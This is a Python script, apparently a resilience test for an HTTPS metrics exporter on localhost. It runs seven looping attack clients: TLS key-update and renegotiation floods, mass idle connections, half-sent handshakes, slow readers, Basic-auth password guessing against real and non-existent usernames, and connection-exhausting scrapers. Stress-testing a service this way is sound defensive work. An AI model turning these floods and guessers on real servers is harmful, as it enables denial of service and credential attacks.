#!/usr/bin/env python3
"""Clients that mean ill, each a process that goes on until it is ended.

Usage: hostile.py NAME PORT, of an exporter that speaks HTTPS and wants the password of PASSWORD"""

import base64
import contextlib
import os
import socket
import ssl
import sys
import time

from raw_tls import ALERT, HANDSHAKE, RawTls, hello_that_announces

NAME, PASSWORD = "prometheus", "open sesame"
HASH = "$2b$10$abcdefghijklmnopqrstuu4SuEsu2LsUrAYUpWQHLMMc4GV5pZTxK"
PATIENCE_S = 5


def request(path, password=PASSWORD, name=NAME):
    given = base64.b64encode(f"{name}:{password}".encode()).decode()
    return f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {given}\r\n\r\n".encode()


def connected(port, source, receive_buffer=None):
    connection = socket.socket()
    connection.settimeout(PATIENCE_S)
    # Else a request that follows the handshake at once waits for the server to acknowledge that.
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.bind((source, 0))
    connection.connect(("127.0.0.1", port))
    return connection


def unverified():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def connected_by_tls(port, source, receive_buffer=None):
    return unverified().wrap_socket(connected(port, source, receive_buffer))


def hold(connections, connection, most):
    """Keeps the connection open, and of all the newest `most`."""
    connections.append(connection)
    for old in connections[:-most]:
        old.close()
    del connections[:-most]


# Each of these is called over and over, with what it holds.

def key_updates(port, source, _):
    raw = RawTls(connected(port, source))
    while True:
        raw.socket.sendall(b"".join(raw.key_update(n % 2 == 0) for n in range(100)))


def renegotiations(port, source, _):
    raw = RawTls(connected(port, source), ssl.TLSVersion.TLSv1_2)
    while True:
        raw.socket.sendall(b"".join(raw.record(HANDSHAKE, b"\1\0\0\x50" + 80 * b"x") +
                                    raw.record(ALERT, b"\1\x5a") for _ in range(50)))


def bare_connects(port, source, held):
    hold(held, connected(port, source), 500)


def half_hellos(port, source, held):
    connection = connected(port, source)
    connection.sendall(hello_that_announces(16384))
    hold(held, connection, 200)


def slow_readers(port, source, held):
    connection = connected_by_tls(port, source, receive_buffer=4096)
    with contextlib.suppress(TimeoutError):
        connection.settimeout(0.1)
        connection.sendall(200 * request("/metrics"))
    hold(held, connection, 100)


def guessers(port, source, held):
    """By turns under a name that there is and one that there is not."""
    if len(held) < 8:
        held.append(connected_by_tls(port, source))
    for n, connection in enumerate(held):
        connection.sendall(request("/metrics", f"wrong {time.monotonic()}", (NAME, "root")[n % 2]))
    for connection in held:
        if not connection.recv(4096):
            raise ConnectionError


def scrapers(port, source, held):
    """With the right password, and so many that they fill all places when the endpoint hangs."""
    while len(held) < 80:
        held.append(connected_by_tls(port, source))
        held[-1].sendall(request("/metrics"))
    for connection in held:
        connection.recv(65536)
        connection.sendall(request("/metrics"))


ATTACKS = [key_updates, renegotiations, bare_connects, half_hellos, slow_readers, guessers, scrapers]


def attack(name, port):
    os.nice(19)  # as if it were on another machine
    number = [one.__name__ for one in ATTACKS].index(name)
    held = []
    while True:
        try:
            ATTACKS[number](port, f"127.0.0.{number + 2}", held)
        except OSError:  # the exporter has closed it, as it should
            for connection in held:
                connection.close()
            held.clear()


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]))
